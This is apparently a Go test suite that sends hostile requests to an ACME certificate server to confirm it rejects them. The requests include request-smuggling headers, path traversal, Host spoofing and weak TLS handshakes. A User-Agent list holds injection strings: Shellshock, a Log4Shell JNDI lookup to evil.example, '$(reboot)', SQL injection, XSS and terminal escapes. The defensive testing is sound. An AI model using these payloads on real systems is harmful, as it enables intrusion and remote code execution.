package catest_test

import (
	"crypto/tls"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// posts are the paths of all resources that take POST, with objects that are
// there; path of a URL is what a request line has.
func (h *hostile) posts() map[string]string {
	account := h.path(h.account.kid)
	return map[string]string{
		"new-account": "/acme/new-account", "new-order": "/acme/new-order", "new-authz": "/acme/new-authz",
		"revoke-cert": "/acme/revoke-cert", "key-change": "/acme/key-change",
		"account": account, "orders": account + "/orders",
		"order": h.path(h.urls.order), "finalize": h.path(h.urls.finalize),
		"authorization": h.path(h.urls.authorization), "challenge": h.path(h.urls.challenge),
		"certificate": h.path(h.urls.certificate),
	}
}

func (h *hostile) path(url string) string { return strings.TrimPrefix(url, h.base) }

var opens = []string{"/acme/directory", "/acme/new-nonce"}

// sorted are the keys of a map, so that cases have one sequence.
func sorted[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

// http is rows 1 to 30.
func (h *hostile) http() {
	h.contentTypes()
	h.methods()
	h.bodySizes()
	h.wire()
	h.paths()
	h.headers()
	h.handshakes()
}

// contentTypes: exactly application/jose+json (RFC 8555 section 6.2).
func (h *hostile) contentTypes() {
	wrong := []struct {
		row   int
		types []string
	}{
		{1, nil},
		{2, []string{"application/json"}},
		{2, []string{"text/plain"}},
		{2, []string{"application/jose"}},
		{2, []string{"application/x-www-form-urlencoded"}},
		{2, []string{"multipart/form-data; boundary=x"}},
		{2, []string{"*/*"}},
		{2, []string{"application/jose+json+zip"}},
		{3, []string{"application/jose+json; charset=utf-8"}},
		{3, []string{"application/jose+json;"}},
		{3, []string{"APPLICATION/JOSE+JSON"}},
		{4, []string{"application/jose+json", "application/json"}},
		{4, []string{"application/jose+json", "application/jose+json"}},
		{4, []string{"application/jose+json, text/html"}},
	}
	posts := h.posts()
	for _, name := range sorted(posts) {
		for _, w := range wrong {
			h.posted(w.row, fmt.Sprintf("%s %q", name, w.types), request{by: h.account, url: posts[name], http: http.Header{"Content-Type": w.types}}, 415, "malformed")
		}
		for _, coding := range []string{"gzip", "br", "identity", "deflate, gzip"} {
			h.posted(22, name+" "+coding, request{by: h.account, url: posts[name], http: http.Header{"Content-Encoding": {coding}}}, 415, "malformed")
		}
	}
}

func (h *hostile) methods() {
	posts := h.posts()
	for _, name := range sorted(posts) {
		for _, method := range []string{"GET", "HEAD"} {
			h.method(5, method, posts[name], "POST, OPTIONS")
		}
		for _, method := range []string{"PUT", "DELETE", "TRACE", "PATCH", "PROPFIND"} {
			h.method(6, method, posts[name], "POST, OPTIONS")
		}
	}
	for _, path := range opens {
		for _, method := range []string{"POST", "PUT", "DELETE", "TRACE", "PATCH"} {
			h.method(6, method, path, "GET, HEAD, OPTIONS")
		}
	}
	h.is(6, "CONNECT", func(t *testing.T) {
		a := h.raw(h.base, "CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\nConnection: close\r\n\r\n")
		if a == nil || a.status != 404 {
			t.Errorf("%+v, want 404: nothing is ever proxied", a)
		}
	})
	for _, m := range []struct {
		row    int
		method string
		status int
	}{{7, "HEAD", 200}, {8, "GET", 204}} {
		h.is(m.row, m.method+" new-nonce", func(t *testing.T) {
			a := h.plain(m.method, "/acme/new-nonce", nil)
			if a.status != m.status || len(a.header["Replay-Nonce"]) != 1 || a.header.Get("Cache-Control") != "no-store" || len(a.body) != 0 {
				t.Errorf("%d %v, want %d with a nonce that nobody keeps", a.status, a.header, m.status)
			}
		})
	}
}

// plain is a request without a body.
func (h *hostile) plain(method, path string, header http.Header) *answer {
	h.t.Helper()
	r, err := http.NewRequest(method, h.absolute(path), http.NoBody)
	if err != nil {
		h.t.Fatal(err)
	}
	for name, values := range header {
		r.Header[name] = values
		if name == "Host" {
			r.Host = values[0]
		}
	}
	return h.do(r)
}

func (h *hostile) method(row int, method, path, allow string) {
	h.t.Helper()
	h.is(row, method+" "+path, func(t *testing.T) {
		a := h.plain(method, path, nil)
		if method == "HEAD" {
			a.problem = "malformed" // an answer to HEAD has no body to say so
		}
		a.want(t, 405, "malformed")
		if got := a.header.Get("Allow"); got != allow {
			t.Errorf("Allow: %s, want %s", got, allow)
		}
	})
}

// bodySizes: 64 KiB and no more, found out before it is read where the
// client says how long it is.
func (h *hostile) bodySizes() {
	posts := h.posts()
	for _, name := range sorted(posts) {
		big := func(p, payload, sig string) string {
			body := flattened(p, payload, sig)
			return body + strings.Repeat(" ", 65<<10-len(body))
		}
		h.posted(9, name, request{by: h.account, url: posts[name], body: big}, 413, "malformed")
		h.is(10, name, func(t *testing.T) {
			a := h.raw(h.base, "POST "+posts[name]+" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/jose+json\r\nContent-Length: 10737418240\r\n\r\n{")
			if a == nil {
				t.Fatal("hung up without an answer")
			}
			a.want(t, 413, "malformed")
			if !a.closed {
				t.Error("the connection stays open for 10 GiB")
			}
		})
	}
	h.posted(9, "a chunked body", request{by: h.account, url: "/acme/new-order", http: http.Header{"Transfer-Encoding": {"chunked"}}, body: func(_, _, _ string) string { return strings.Repeat("[", 70<<10) }}, 413, "malformed")
	h.posted(84, "1 MiB in a member that is ignored", request{by: h.account, url: "/acme/new-order", payload: `{"x":"` + strings.Repeat("x", 1<<20) + `"}`}, 413, "malformed")
}

// wire is what only a socket can say. 0 is a connection that was closed
// without an answer.
func (h *hostile) wire() {
	get := "GET /acme/directory HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
	post := "POST /acme/new-order HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/jose+json\r\n"
	for _, c := range []struct {
		row    int
		what   string
		text   string
		status int
	}{
		{14, "a header line of 100 KiB", get + "X-A: " + strings.Repeat("a", 100<<10) + "\r\n\r\n", 431},
		{14, "2,000 headers", get + strings.Repeat("X-A: aaaaaaaaaa\r\n", 2000) + "\r\n", 431},
		{14, "a request line of 100 KiB", "GET /" + strings.Repeat("a", 100<<10) + " HTTP/1.1\r\nHost: localhost\r\n\r\n", 431},
		// RFC 9112 section 6.3: Transfer-Encoding overrides; the body is the chunked one.
		{15, "Content-Length and chunked", post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n\r\n", 400},
		{15, "two Content-Lengths", post + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}", 400},
		{15, "Content-Length with a sign", post + "Content-Length: +2\r\n\r\n{}", 400},
		{15, "a negative Content-Length", post + "Content-Length: -1\r\n\r\n{}", 400},
		{15, "Content-Length in hexadecimal", post + "Content-Length: 0x2\r\n\r\n{}", 400},
		{15, "Transfer-Encoding with a tab", post + "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n", 400},
		{15, "Transfer-Encoding xchunked", post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", 501},
		{15, "Transfer-Encoding twice", post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n", 501},
		{15, "a chunk of no size", post + "Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n", 400},
		{15, "a chunk of 2^64", post + "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{}\r\n0\r\n\r\n", 400},
		{16, "NUL in a header's value", get + "X-A: a\x00b\r\n\r\n", 400},
		{16, "a control character in a header's name", get + "X\x01A: a\r\n\r\n", 400},
		{16, "a space before the colon", get + "X-A : a\r\n\r\n", 400},
		{16, "a header without a colon", get + "X-A\r\n\r\n", 400},
		// RFC 9112 section 5.2 has the choice between refusing obs-fold and
		// reading it as a space, section 2.2 between refusing and taking a bare
		// LF. net/http reads both; there is nobody in front that reads otherwise.
		{16, "obs-fold", get + "X-A: a\r\n b\r\n\r\n", 200},
		{16, "bare LF", strings.ReplaceAll(get, "\r\n", "\n") + "\n", 200},
		{16, "NUL in the path", "GET /acme/\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n", 400},
		{16, "no version", "GET /acme/directory\r\n\r\n", 400},
		{16, "HTTP/3.0", "GET /acme/directory HTTP/3.0\r\nHost: localhost\r\n\r\n", 505},
		{16, "HTTP/0.9", "GET /acme/directory HTTP/0.9\r\nHost: localhost\r\n\r\n", 505},
		{16, "a method of a space", " /acme/directory HTTP/1.1\r\nHost: localhost\r\n\r\n", 400},
		{17, "no Host", "GET /acme/directory HTTP/1.1\r\nConnection: close\r\n\r\n", 400},
		{17, "two Hosts", get + "Host: evil.example\r\n\r\n", 400},
		{17, "a Host that is none", "GET /acme/directory HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n", 400},
		{24, "HTTP/1.0 without Host", "GET /acme/directory HTTP/1.0\r\n\r\n", 200}, // legal in 1.0; URLs are not made from it
		{30, "nothing but line ends", "\r\n\r\n\r\n", 400},
		{30, "TLS inside of TLS", "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\r\n\r\n", 400},
		{30, "HTTP/2 in clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 404},
	} {
		h.is(c.row, c.what, func(t *testing.T) {
			h.with(t, func() {
				a := h.raw(h.base, c.text)
				if a == nil {
					a = &answer{}
				}
				if a.status != c.status {
					t.Errorf("%d %.200s, want %d", a.status, a.body, c.status)
				}
			})
		})
	}
	h.is(17, "another Host", func(t *testing.T) {
		a := h.plain("GET", "/acme/directory", http.Header{"Host": {"evil.example"}})
		if a.status != 200 || strings.Contains(string(a.body), "evil") {
			t.Errorf("%d %s: URLs are made from the Host", a.status, a.body)
		}
	})
}

// paths: one spelling for each resource, and never a redirect.
func (h *hostile) paths() {
	for _, path := range []string{
		"//acme/new-order", "/acme//new-order", "/acme/../acme/new-order", "/acme/./new-order", "/acme/new-order/", "/acme/new-order/.",
		"/acme/%6eew-order", "/acme%2Fnew-order", "/acme/%2e%2e/acme/new-order", "/ACME/new-order", "/acme/New-Order", "/acme/new-order;x=1", "/acme/new-order%00",
		"/acme/new-order%20", "/acme/new-order%2f", "/", "/acme", "/acme/", "/acme/order", "/acme/order/", "/acme/account//orders", "/.well-known/acme-challenge/x",
		"/.git/config", "/acme/certificate/../../chancery.yaml", "/metrics", "/healthz", "/api/v1/certificates", "/debug/pprof/", "/ocsp", "/root.pem",
	} {
		h.is(18, "POST "+path, func(t *testing.T) {
			h.with(t, func() {
				a := h.raw(h.base, "POST "+path+" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/jose+json\r\nContent-Length: 2\r\n\r\n{}")
				if a == nil {
					t.Fatal("hung up")
				}
				a.want(t, 404, "malformed")
			})
		})
		h.is(18, "GET "+path, func(t *testing.T) {
			h.with(t, func() {
				a := h.raw(h.base, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
				if a == nil {
					t.Fatal("hung up")
				}
				a.want(t, 404, "malformed")
			})
		})
	}
	h.is(18, "a whole URL as target", func(t *testing.T) {
		a := h.raw(h.base, "GET https://evil.example/acme/directory HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
		if a == nil {
			t.Fatal("hung up")
		}
		a.want(t, 400, "malformed")
	})
	posts := h.posts()
	for _, name := range sorted(posts) {
		for _, query := range []string{"?", "?a=b", "?%00"} {
			h.posted(19, name+query, request{by: h.account, url: posts[name] + query}, 400, "malformed")
		}
	}
}

// headers that must not change anything.
func (h *hostile) headers() {
	read := func(row int, what string, header http.Header) {
		h.posted(row, what, request{by: h.account, url: h.urls.order, http: header}, 200, "")
		h.is(row, what+" at the directory", func(t *testing.T) { h.plain("GET", "/acme/directory", header).want(t, 200, "") })
	}
	for _, nonce := range []string{"", "x", "../../etc", strings.Repeat("n", 4096)} {
		read(20, fmt.Sprintf("Replay-Nonce %.20q", nonce), http.Header{"Replay-Nonce": {nonce}})
	}
	for _, agent := range userAgents {
		if strings.ContainsFunc(agent, func(r rune) bool { return r < ' ' && r != '\t' || r == 0x7f }) {
			h.is(25, fmt.Sprintf("User-Agent %.40q", agent), func(t *testing.T) { // RFC 9110 section 5.5: refused before anybody logs it
				if a := h.raw(h.base, "GET /acme/directory HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nUser-Agent: "+agent+"\r\n\r\n"); a == nil || a.status != 400 {
					t.Errorf("%+v, want 400", a)
				}
			})
			continue
		}
		read(25, fmt.Sprintf("User-Agent %.40q", agent), http.Header{"User-Agent": {agent}})
	}
	for _, language := range []string{"", "*", "tlh", strings.Repeat("de;q=0.1,", 1300), strings.Repeat("a-", 5000), ";;;,,,===", "en;q=1e999"} {
		read(26, fmt.Sprintf("Accept-Language %.40q", language), http.Header{"Accept-Language": {language}})
	}
	h.is(26, "5,000 languages", func(t *testing.T) {
		h.plain("GET", "/acme/directory", http.Header{"Accept-Language": {strings.Repeat("de-x;q=0.1,", 5000)}}).want(t, 431, "")
	})
	for _, origin := range []string{"https://evil.example", "null", "file://", "https://localhost", strings.Repeat("o", 1000)} {
		read(27, fmt.Sprintf("Origin %.30q", origin), http.Header{"Origin": {origin}})
		h.is(27, fmt.Sprintf("the operator's door, Origin %.30q", origin), func(t *testing.T) {
			for _, path := range []string{"/healthz", "/api/v1/certificates", "/metrics"} {
				a := h.plain("GET", h.c.AdminURL+path, http.Header{"Origin": {origin}})
				if a.status != 403 || a.header.Get("Access-Control-Allow-Origin") != "" {
					t.Errorf("%s: %d %v, want 403", path, a.status, a.header)
				}
			}
		})
	}
	h.is(25, "nothing of them in the log that a terminal obeys", func(t *testing.T) {
		if log := h.c.Log(); strings.ContainsFunc(log, func(r rune) bool { return r < ' ' && r != '\n' || r == 0x7f }) {
			t.Errorf("control characters in the log: %q", log)
		}
	})
}

// userAgents must all be served alike (I31).
var userAgents = []string{
	"", " ", "curl/7.88", "certbot/2.1.0", "acme.sh/3.0.6", "Mozilla/5.0", "lego-cli/4", "python-requests", "Go-http-client/1.1", "() { :; }; echo",
	"\x1b[31mred", "\x1b]0;title\x07", "a\tb", "' OR 1=1 --", "<script>alert(1)</script>", "%00%0a%0d", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(reboot)",
	strings.Repeat("A", 8<<10), "\xff\xfe", "ünïcode",
}

// handshakes at the wrong door, or with what is no longer spoken.
func (h *hostile) handshakes() {
	for _, c := range []struct {
		what   string
		config *tls.Config
	}{
		{"TLS 1.0", &tls.Config{MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS10}},
		{"TLS 1.1", &tls.Config{MinVersion: tls.VersionTLS11, MaxVersion: tls.VersionTLS11}},
		{"RC4", &tls.Config{MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{tls.TLS_ECDHE_ECDSA_WITH_RC4_128_SHA, tls.TLS_RSA_WITH_RC4_128_SHA}}},
		{"3DES", &tls.Config{MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{tls.TLS_ECDHE_RSA_WITH_3DES_EDE_CBC_SHA, tls.TLS_RSA_WITH_3DES_EDE_CBC_SHA}}},
		{"RSA key exchange", &tls.Config{MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{tls.TLS_RSA_WITH_AES_128_CBC_SHA, tls.TLS_RSA_WITH_AES_128_GCM_SHA256}}},
		{"only HTTP/2", &tls.Config{NextProtos: []string{"h2"}}},
		{"only acme-tls/1", &tls.Config{NextProtos: []string{"acme-tls/1"}}},
	} {
		h.is(29, c.what, func(t *testing.T) {
			c.config.InsecureSkipVerify = true
			conn, err := tls.Dial("tcp", address(h.base), c.config)
			if err == nil {
				_ = conn.Close()
				t.Error("the handshake succeeds")
			}
		})
	}
	h.is(30, "HTTP in clear to the ACME door", func(t *testing.T) {
		a := h.raw(strings.Replace(h.base, "https", "http", 1), "GET /acme/directory HTTP/1.1\r\nHost: localhost\r\n\r\n")
		if a == nil || a.status != 400 {
			t.Errorf("%+v, want 400", a)
		}
	})
	for what, door := range map[string]string{"publish": h.c.PublishURL, "the operator's": h.c.AdminURL} {
		h.is(30, "TLS to the door "+what, func(t *testing.T) {
			conn, err := tls.Dial("tcp", address(door), &tls.Config{InsecureSkipVerify: true})
			if err == nil {
				_ = conn.Close()
				t.Error("the handshake succeeds")
			}
		})
	}
}
